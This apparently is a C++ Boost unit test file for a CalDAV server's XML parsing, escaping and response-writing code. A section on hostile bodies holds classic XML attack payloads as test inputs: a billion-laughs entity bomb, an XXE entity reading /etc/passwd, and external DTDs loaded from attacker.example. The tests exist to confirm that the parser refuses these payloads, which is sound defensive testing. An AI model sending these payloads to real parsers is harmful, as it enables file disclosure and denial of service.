#define BOOST_TEST_MODULE xml
#include <boost/test/unit_test.hpp>

#include "caldav/xml.h"

#include <chrono>
#include <string>

using namespace jadwal::caldav;

namespace {

// Structural equality, with a readable path to the first difference.
std::string firstDifference(const XmlElement& a, const XmlElement& b, const std::string& path = "") {
  const std::string here = path + "/{" + a.ns + "}" + a.name;
  if (a.ns != b.ns || a.name != b.name) return here + " vs {" + b.ns + "}" + b.name;
  if (a.attributes != b.attributes) return here + ": attributes differ";
  if (a.text != b.text) return here + ": text '" + a.text + "' vs '" + b.text + "'";
  if (a.children.size() != b.children.size()) return here + ": child count differs";
  for (std::size_t i = 0; i < a.children.size(); ++i) {
    std::string d = firstDifference(a.children[i], b.children[i], here);
    if (!d.empty()) return d;
  }
  return "";
}

std::string refusalOf(std::string_view body, const XmlLimits& limits = {}) {
  try {
    parseXml(body, limits);
  } catch (const XmlError& e) {
    return e.what();
  }
  return "";
}

bool contains(const std::string& haystack, std::string_view needle) {
  return haystack.find(needle) != std::string::npos;
}

const char* kPropfindProp = R"(<?xml version="1.0" encoding="utf-8"?>
<D:propfind xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav" xmlns:CS="http://calendarserver.org/ns/">
  <D:prop>
    <D:resourcetype/>
    <D:displayname/>
    <CS:getctag/>
    <C:supported-calendar-component-set/>
    <X:unknown xmlns:X="urn:example:x"/>
  </D:prop>
</D:propfind>)";

const char* kCalendarQuery = R"(<?xml version="1.0" encoding="utf-8" ?>
<C:calendar-query xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav">
  <D:prop>
    <D:getetag/>
    <C:calendar-data/>
  </D:prop>
  <C:filter>
    <C:comp-filter name="VCALENDAR">
      <C:comp-filter name="VEVENT">
        <C:time-range start="20231122T000000Z" end="20231123T000000Z"/>
      </C:comp-filter>
    </C:comp-filter>
  </C:filter>
</C:calendar-query>)";

const char* kMultiget = R"(<?xml version="1.0" encoding="utf-8"?>
<C:calendar-multiget xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav">
  <D:prop><D:getetag/><C:calendar-data/></D:prop>
  <D:href>/dav/calendars/bupati/agenda/a.ics</D:href>
  <D:href>/dav/calendars/bupati/agenda/b%20c.ics</D:href>
  <D:href>/dav/calendars/bupati/agenda/d&amp;e.ics</D:href>
</C:calendar-multiget>)";

const char* kSyncCollection = R"(<?xml version="1.0" encoding="utf-8"?>
<sync-collection xmlns="DAV:">
  <sync-token>http://jadwal.example/sync/42</sync-token>
  <sync-level>1</sync-level>
  <prop><getetag/></prop>
</sync-collection>)";

}  // namespace

// ---- parsing typical request bodies ------------------------------------------------

BOOST_AUTO_TEST_CASE(propfind_with_prop_parses_names_and_namespaces) {
  XmlElement root = parseXml(kPropfindProp);
  BOOST_TEST(root.is(ns::kDav, "propfind"));
  const XmlElement* prop = root.child(ns::kDav, "prop");
  BOOST_REQUIRE(prop != nullptr);
  BOOST_REQUIRE_EQUAL(prop->children.size(), 5u);
  BOOST_TEST(prop->children[0].is(ns::kDav, "resourcetype"));
  BOOST_TEST(prop->children[2].is(ns::kCalServer, "getctag"));
  BOOST_TEST(prop->children[3].is(ns::kCalDav, "supported-calendar-component-set"));
  BOOST_TEST(prop->children[4].is("urn:example:x", "unknown"));
  BOOST_TEST(root.child(ns::kDav, "allprop") == nullptr);
}

BOOST_AUTO_TEST_CASE(propfind_allprop_parses) {
  XmlElement root =
      parseXml(R"(<propfind xmlns="DAV:"><allprop/><include><D:x xmlns:D="urn:y"/></include></propfind>)");
  BOOST_TEST(root.is(ns::kDav, "propfind"));
  BOOST_TEST(root.child(ns::kDav, "allprop") != nullptr);
  const XmlElement* include = root.child(ns::kDav, "include");
  BOOST_REQUIRE(include != nullptr);
  BOOST_TEST(include->children.at(0).is("urn:y", "x"));
}

BOOST_AUTO_TEST_CASE(calendar_query_filter_attributes_are_read) {
  XmlElement root = parseXml(kCalendarQuery);
  BOOST_TEST(root.is(ns::kCalDav, "calendar-query"));
  const XmlElement* filter = root.child(ns::kCalDav, "filter");
  BOOST_REQUIRE(filter != nullptr);
  const XmlElement* vcalendar = filter->child(ns::kCalDav, "comp-filter");
  BOOST_REQUIRE(vcalendar != nullptr);
  BOOST_TEST(vcalendar->attribute("name") == "VCALENDAR");
  const XmlElement* vevent = vcalendar->child(ns::kCalDav, "comp-filter");
  BOOST_REQUIRE(vevent != nullptr);
  const XmlElement* range = vevent->child(ns::kCalDav, "time-range");
  BOOST_REQUIRE(range != nullptr);
  BOOST_TEST(range->attribute("start") == "20231122T000000Z");
  BOOST_TEST(range->attribute("end") == "20231123T000000Z");
  BOOST_TEST(range->attribute("missing", "fallback") == "fallback");
  BOOST_TEST(range->attribute("missing").empty());
}

BOOST_AUTO_TEST_CASE(multiget_hrefs_in_order_with_entities_decoded) {
  XmlElement root = parseXml(kMultiget);
  auto hrefs = root.childrenNamed(ns::kDav, "href");
  BOOST_REQUIRE_EQUAL(hrefs.size(), 3u);
  BOOST_TEST(hrefs[0]->text == "/dav/calendars/bupati/agenda/a.ics");
  BOOST_TEST(hrefs[1]->text == "/dav/calendars/bupati/agenda/b%20c.ics");
  BOOST_TEST(hrefs[2]->text == "/dav/calendars/bupati/agenda/d&e.ics");
  BOOST_TEST(root.childrenNamed(ns::kCalDav, "href").empty());
}

BOOST_AUTO_TEST_CASE(sync_collection_in_default_namespace) {
  XmlElement root = parseXml(kSyncCollection);
  BOOST_TEST(root.is(ns::kDav, "sync-collection"));
  BOOST_TEST(root.child(ns::kDav, "sync-token")->text == "http://jadwal.example/sync/42");
  BOOST_TEST(root.child(ns::kDav, "sync-level")->text == "1");
  BOOST_TEST(root.child(ns::kDav, "prop")->child(ns::kDav, "getetag") != nullptr);
}

BOOST_AUTO_TEST_CASE(default_namespace_and_prefixed_forms_give_the_same_tree) {
  XmlElement prefixed = parseXml(
      R"(<D:propfind xmlns:D="DAV:" xmlns:A="http://apple.com/ns/ical/"><D:prop><D:displayname/><A:calendar-color/></D:prop></D:propfind>)");
  XmlElement defaulted = parseXml(
      R"(<propfind xmlns="DAV:"><prop><displayname/><calendar-color xmlns="http://apple.com/ns/ical/"/></prop></propfind>)");
  XmlElement otherPrefix = parseXml(
      R"(<d:propfind xmlns:d="DAV:"><d:prop><d:displayname/><x:calendar-color xmlns:x="http://apple.com/ns/ical/"/></d:prop></d:propfind>)");
  BOOST_TEST(firstDifference(prefixed, defaulted) == "");
  BOOST_TEST(firstDifference(prefixed, otherPrefix) == "");
}

BOOST_AUTO_TEST_CASE(text_is_concatenated_and_whitespace_kept) {
  XmlElement root = parseXml("<a>  one <b/>two<![CDATA[ <three> ]]>\n</a>");
  BOOST_TEST(root.text == "  one two <three> \n");
  BOOST_TEST(root.children.size() == 1u);
}

BOOST_AUTO_TEST_CASE(element_without_namespace_and_namespaced_attributes) {
  XmlElement root = parseXml(R"(<root xmlns:q="urn:q" plain="1" q:qualified="2"><child/></root>)");
  BOOST_TEST(root.ns == "");
  BOOST_TEST(root.name == "root");
  BOOST_REQUIRE_EQUAL(root.attributes.size(), 1u);  // the qualified one is dropped
  BOOST_TEST(root.attribute("plain") == "1");
  BOOST_TEST(root.attribute("qualified").empty());
  BOOST_TEST(root.children.at(0).ns == "");
}

BOOST_AUTO_TEST_CASE(latin1_declared_encoding_is_transcoded) {
  XmlElement root = parseXml(std::string("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>caf\xE9</a>"));
  BOOST_TEST(root.text == "caf\xC3\xA9");
}

// ---- hostile and broken bodies ----------------------------------------------------

BOOST_AUTO_TEST_CASE(doctype_is_refused) {
  BOOST_TEST(refusalOf("<!DOCTYPE propfind><propfind xmlns=\"DAV:\"/>") ==
             "XML body declares a DOCTYPE, which is not accepted");
}

BOOST_AUTO_TEST_CASE(billion_laughs_is_refused) {
  const char* body = R"(<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>)";
  BOOST_TEST(contains(refusalOf(body), "DOCTYPE"));
}

BOOST_AUTO_TEST_CASE(external_entities_are_refused) {
  const char* system = R"(<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&xxe;</D:displayname></D:prop></D:propfind>)";
  BOOST_TEST(contains(refusalOf(system), "DOCTYPE"));
  const char* parameter = R"(<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]><foo/>)";
  BOOST_TEST(contains(refusalOf(parameter), "DOCTYPE"));
  const char* externalSubset = R"(<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>)";
  BOOST_TEST(contains(refusalOf(externalSubset), "DOCTYPE"));
}

BOOST_AUTO_TEST_CASE(undeclared_entity_is_malformed) {
  std::string why = refusalOf("<a>&nbsp;</a>");
  BOOST_TEST(contains(why, "malformed XML at line 1"));
  BOOST_TEST(contains(why, "undefined entity"));
}

BOOST_AUTO_TEST_CASE(depth_limit) {
  XmlLimits limits;
  limits.maxDepth = 4;
  BOOST_TEST(refusalOf("<a><b><c><d/></c></b></a>", limits) == "");  // exactly four levels
  BOOST_TEST(refusalOf("<a><b><c><d><e/></d></c></b></a>", limits) == "XML body nests deeper than 4 levels");

  std::string deep;
  for (int i = 0; i < 65; ++i) deep += "<a>";
  for (int i = 0; i < 65; ++i) deep += "</a>";
  BOOST_TEST(refusalOf(deep) == "XML body nests deeper than 64 levels");
  // Deeply nested and never closed: the depth refusal comes before the end.
  std::string unclosed;
  for (int i = 0; i < 100000; ++i) unclosed += "<a>";
  BOOST_TEST(refusalOf(unclosed) == "XML body nests deeper than 64 levels");
}

BOOST_AUTO_TEST_CASE(size_limit) {
  XmlLimits limits;
  limits.maxBytes = 32;
  BOOST_TEST(refusalOf("<a>0123456789012345678901234</a>", limits) == "");  // 32 bytes
  BOOST_TEST(refusalOf("<a>01234567890123456789012345</a>", limits) == "XML body is larger than the limit of 32 bytes");
  std::string big = "<a>" + std::string((1 << 20), 'x') + "</a>";
  BOOST_TEST(contains(refusalOf(big), "larger than the limit of 1048576 bytes"));
}

BOOST_AUTO_TEST_CASE(element_count_limit) {
  XmlLimits limits;
  limits.maxElements = 3;
  BOOST_TEST(refusalOf("<a><b/><c/></a>", limits) == "");
  BOOST_TEST(refusalOf("<a><b/><c/><d/></a>", limits) == "XML body has more than 3 elements");
  std::string many = "<a>";
  for (int i = 0; i < 100001; ++i) many += "<b/>";
  many += "</a>";
  BOOST_TEST(refusalOf(many) == "XML body has more than 100000 elements");
}

BOOST_AUTO_TEST_CASE(empty_body_is_refused) {
  BOOST_TEST(refusalOf("") == "XML body is empty");
  BOOST_TEST(refusalOf(" \r\n\t ") == "XML body is empty");
  BOOST_TEST(contains(refusalOf("<?xml version=\"1.0\"?>"), "malformed XML"));
  BOOST_TEST(contains(refusalOf("<!-- only a comment -->"), "malformed XML"));
}

BOOST_AUTO_TEST_CASE(malformed_bodies_are_refused_with_line) {
  BOOST_TEST(refusalOf("<a>\n<b>\n</a>") == "malformed XML at line 3: mismatched tag");
  BOOST_TEST(contains(refusalOf("<a>"), "malformed XML at line 1: "));
  BOOST_TEST(contains(refusalOf("<a/><b/>"), "junk after document element"));
  BOOST_TEST(contains(refusalOf("not xml at all"), "malformed XML"));
  BOOST_TEST(contains(refusalOf("<a b='1' b='2'/>"), "duplicate attribute"));
  BOOST_TEST(contains(refusalOf("<D:propfind/>"), "unbound prefix"));
  BOOST_TEST(contains(refusalOf("<a xmlns:x='urn:x&#10;split'/>"), "malformed XML"));
}

BOOST_AUTO_TEST_CASE(invalid_bytes_and_characters_are_refused) {
  BOOST_TEST(contains(refusalOf(std::string("<a>\xC3\x28</a>")), "malformed XML"));  // bad UTF-8
  BOOST_TEST(contains(refusalOf(std::string("<a>\xFF</a>")), "malformed XML"));
  BOOST_TEST(contains(refusalOf(std::string("<a>x\x01y</a>")), "malformed XML"));  // control char
  BOOST_TEST(contains(refusalOf(std::string("<a>x&#1;y</a>")), "malformed XML"));  // by reference
  BOOST_TEST(contains(refusalOf(std::string("<a>x\0y</a>", 9)), "malformed XML"));
  BOOST_TEST(contains(refusalOf("<?xml version=\"1.0\" encoding=\"klingon\"?><a/>"), "malformed XML"));
}

// ---- serialising a parsed element again -----------------------------------------------

BOOST_AUTO_TEST_CASE(to_xml_reparses_to_the_same_tree) {
  for (const char* body : {kPropfindProp, kCalendarQuery, kMultiget, kSyncCollection}) {
    XmlElement original = parseXml(body);
    XmlElement again = parseXml(original.toXml());
    BOOST_TEST(firstDifference(original, again) == "", body);
  }
}

BOOST_AUTO_TEST_CASE(to_xml_keeps_no_namespace_children_and_awkward_text) {
  XmlElement original = parseXml(
      "<x:prop xmlns:x=\"urn:x\" a=\"1&amp;&quot;&#9;&#10;&#13;\">"
      "<inner xmlns=\"\">te&lt;x&gt;t&#13;\n</inner><x:same/><y:other xmlns:y=\"urn:y\"><z xmlns=\"\"/></y:other>"
      "</x:prop>");
  BOOST_TEST(original.children.at(0).ns == "");
  BOOST_TEST(original.children.at(0).text == "te<x>t\r\n");
  BOOST_TEST(original.attribute("a") == "1&\"\t\n\r");
  const std::string xml = original.toXml();
  XmlElement again = parseXml(xml);
  BOOST_TEST(firstDifference(original, again) == "");

  // Embedded inside a document with a default namespace, the no-namespace
  // parts must stay out of it.
  XmlElement embedded = parseXml("<outer xmlns=\"DAV:\">" + xml + "</outer>");
  BOOST_TEST(firstDifference(original, embedded.children.at(0)) == "");

  XmlElement bare = parseXml("<color>#ff0000</color>");
  XmlElement bareEmbedded = parseXml("<prop xmlns=\"DAV:\">" + bare.toXml() + "</prop>");
  BOOST_TEST(bareEmbedded.children.at(0).ns == "");
  BOOST_TEST(bareEmbedded.children.at(0).text == "#ff0000");
}

// ---- escaping ---------------------------------------------------------------------

BOOST_AUTO_TEST_CASE(escape_markup_characters) {
  BOOST_TEST(xmlEscape("a & b < c > d \"e\" 'f'") == "a &amp; b &lt; c &gt; d &quot;e&quot; 'f'");
  BOOST_TEST(xmlEscape("") == "");
  BOOST_TEST(xmlEscape("plain text") == "plain text");
  BOOST_TEST(xmlEscape("line\r\nnext\ttab") == "line&#13;\nnext\ttab");
}

BOOST_AUTO_TEST_CASE(escape_drops_illegal_characters_and_repairs_utf8) {
  BOOST_TEST(xmlEscape(std::string("a\x01\x08\x0B\x0C\x1F"
                                   "b",
                                   7)) == "ab");
  BOOST_TEST(xmlEscape(std::string("a\0b", 3)) == "ab");
  BOOST_TEST(xmlEscape("Rapat \xE2\x80\x93 Bupati \xF0\x9F\x93\x85") == "Rapat \xE2\x80\x93 Bupati \xF0\x9F\x93\x85");
  BOOST_TEST(xmlEscape("x\xEF\xBF\xBEy\xEF\xBF\xBFz") == "xyz");                          // U+FFFE, U+FFFF
  BOOST_TEST(xmlEscape("bad\xFFz") == "bad\xEF\xBF\xBDz");                                // stray byte
  BOOST_TEST(xmlEscape("cut\xE2\x80") == "cut\xEF\xBF\xBD\xEF\xBF\xBD");                  // truncated sequence
  BOOST_TEST(xmlEscape("sur\xED\xA0\x80") == "sur\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD");  // surrogate
  BOOST_TEST(xmlEscape("over\xC0\xAF") == "over\xEF\xBF\xBD\xEF\xBF\xBD");                // overlong '/'

  // Whatever goes in, the result is well-formed and parses back.
  std::string everyByte;
  for (int c = 0; c < 256; ++c) everyByte += static_cast<char>(c);
  XmlElement root = parseXml("<a>" + xmlEscape(everyByte) + "</a>");
  std::string expected = "\t\n\r";
  for (int c = 0x20; c < 0x80; ++c) expected += static_cast<char>(c);
  for (int c = 0x80; c < 0x100; ++c) expected += "\xEF\xBF\xBD";
  BOOST_TEST(root.text == expected);
}

// ---- the writer -------------------------------------------------------------------

BOOST_AUTO_TEST_CASE(writer_multistatus_reparses) {
  XmlWriter w;
  w.open(ns::kDav, "multistatus");
  w.open(ns::kDav, "response");
  w.element(ns::kDav, "href", "/dav/calendars/bupati/agenda/a&b.ics");
  w.open(ns::kDav, "propstat");
  w.open(ns::kDav, "prop");
  w.element(ns::kDav, "getetag", "\"abc\"");
  w.element(ns::kCalDav, "calendar-data", "BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n");
  w.element(ns::kCalServer, "getctag", "7");
  w.element(ns::kApple, "calendar-color", "#ff0000");
  w.element(ns::kDav, "resourcetype");
  w.close();
  w.element(ns::kDav, "status", "HTTP/1.1 200 OK");
  const std::string doc = w.finish();  // closes propstat, response, multistatus

  BOOST_TEST(doc.rfind("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<D:multistatus xmlns:D=\"DAV:\"", 0) == 0u);
  BOOST_TEST(contains(doc, "<D:resourcetype/>"));
  XmlElement root = parseXml(doc);
  BOOST_TEST(root.is(ns::kDav, "multistatus"));
  const XmlElement* response = root.child(ns::kDav, "response");
  BOOST_REQUIRE(response != nullptr);
  BOOST_TEST(response->child(ns::kDav, "href")->text == "/dav/calendars/bupati/agenda/a&b.ics");
  const XmlElement* propstat = response->child(ns::kDav, "propstat");
  BOOST_REQUIRE(propstat != nullptr);
  BOOST_TEST(propstat->child(ns::kDav, "status")->text == "HTTP/1.1 200 OK");
  const XmlElement* prop = propstat->child(ns::kDav, "prop");
  BOOST_REQUIRE(prop != nullptr);
  BOOST_TEST(prop->child(ns::kDav, "getetag")->text == "\"abc\"");
  BOOST_TEST(prop->child(ns::kCalDav, "calendar-data")->text == "BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n");
  BOOST_TEST(prop->child(ns::kCalServer, "getctag")->text == "7");
  BOOST_TEST(prop->child(ns::kApple, "calendar-color")->text == "#ff0000");
  BOOST_TEST(prop->child(ns::kDav, "resourcetype") != nullptr);
}

BOOST_AUTO_TEST_CASE(writer_declares_generated_prefixes_where_used) {
  XmlWriter w;
  w.open(ns::kDav, "prop");
  w.element("urn:example:one", "first", "1");
  w.open("urn:example:two", "second", {{"kind", "a\"b\n"}});
  w.element("urn:example:one", "nested");
  w.element("", "bare", "no namespace");
  w.close();
  w.element("urn:example:one", "third");
  const std::string doc = w.finish();

  BOOST_TEST(contains(doc, "<x0:first xmlns:x0=\"urn:example:one\">1</x0:first>"));
  BOOST_TEST(contains(doc, "<x1:second xmlns:x1=\"urn:example:two\" kind=\"a&quot;b&#10;\">"));
  BOOST_TEST(contains(doc, "<bare>no namespace</bare>"));
  BOOST_TEST(contains(doc, "</x1:second>"));
  XmlElement root = parseXml(doc);
  BOOST_REQUIRE_EQUAL(root.children.size(), 3u);
  BOOST_TEST(root.children[0].is("urn:example:one", "first"));
  const XmlElement& second = root.children[1];
  BOOST_TEST(second.is("urn:example:two", "second"));
  BOOST_TEST(second.attribute("kind") == "a\"b\n");
  BOOST_REQUIRE_EQUAL(second.children.size(), 2u);
  BOOST_TEST(second.children[0].is("urn:example:one", "nested"));
  BOOST_TEST(second.children[1].is("", "bare"));
  BOOST_TEST(second.children[1].text == "no namespace");
  BOOST_TEST(root.children[2].is("urn:example:one", "third"));
}

BOOST_AUTO_TEST_CASE(writer_raw_dead_property_and_text) {
  XmlElement dead = parseXml(R"(<x:note xmlns:x="urn:example:dead" lang="id">Catatan <b xmlns="">tebal</b></x:note>)");
  XmlElement bare = parseXml("<plain>v</plain>");
  XmlWriter w;
  w.open(ns::kDav, "prop");
  w.raw(dead.toXml());
  w.raw(bare.toXml());
  w.open(ns::kDav, "displayname");
  w.text("Agenda <Bupati> & Wakil");
  const std::string doc = w.finish();
  XmlElement root = parseXml(doc);
  BOOST_REQUIRE_EQUAL(root.children.size(), 3u);
  BOOST_TEST(firstDifference(root.children[0], dead) == "");
  BOOST_TEST(firstDifference(root.children[1], bare) == "");
  BOOST_TEST(root.children[2].text == "Agenda <Bupati> & Wakil");
}

BOOST_AUTO_TEST_CASE(writer_close_without_open_is_harmless_and_writer_is_reusable) {
  XmlWriter w;
  w.element(ns::kDav, "href", "/a");
  w.close();
  const std::string first = w.finish();
  BOOST_TEST(parseXml(first).text == "/a");
  w.open(ns::kCalDav, "mkcalendar-response");
  const std::string second = w.finish();
  BOOST_TEST(contains(second, "xmlns:D=\"DAV:\""));  // the new root declares again
  BOOST_TEST(parseXml(second).is(ns::kCalDav, "mkcalendar-response"));
}

BOOST_AUTO_TEST_CASE(writer_ten_thousand_responses) {
  constexpr int kResponses = 10000;
  const auto started = std::chrono::steady_clock::now();
  XmlWriter w;
  w.open(ns::kDav, "multistatus");
  for (int i = 0; i < kResponses; ++i) {
    w.open(ns::kDav, "response");
    w.element(ns::kDav, "href", "/dav/calendars/bupati/agenda/event-" + std::to_string(i) + ".ics");
    w.open(ns::kDav, "propstat");
    w.open(ns::kDav, "prop");
    w.element(ns::kDav, "getetag", "\"" + std::to_string(i * 7919) + "\"");
    w.element(ns::kDav, "getcontenttype", "text/calendar; charset=utf-8; component=VEVENT");
    w.close();
    w.element(ns::kDav, "status", "HTTP/1.1 200 OK");
    w.close();
    w.close();
  }
  const std::string doc = w.finish();
  const auto elapsed = std::chrono::steady_clock::now() - started;
  BOOST_TEST_MESSAGE("wrote " << kResponses << " responses (" << doc.size() << " bytes) in "
                              << std::chrono::duration_cast<std::chrono::microseconds>(elapsed).count() << " us");

  XmlLimits limits;
  limits.maxBytes = 16 << 20;
  const auto parseStarted = std::chrono::steady_clock::now();
  XmlElement root = parseXml(doc, limits);
  const auto parseElapsed = std::chrono::steady_clock::now() - parseStarted;
  BOOST_TEST_MESSAGE("parsed it back in " << std::chrono::duration_cast<std::chrono::microseconds>(parseElapsed).count()
                                          << " us");
  auto responses = root.childrenNamed(ns::kDav, "response");
  BOOST_REQUIRE_EQUAL(responses.size(), static_cast<std::size_t>(kResponses));
  BOOST_TEST(responses.back()->child(ns::kDav, "href")->text == "/dav/calendars/bupati/agenda/event-9999.ics");
}
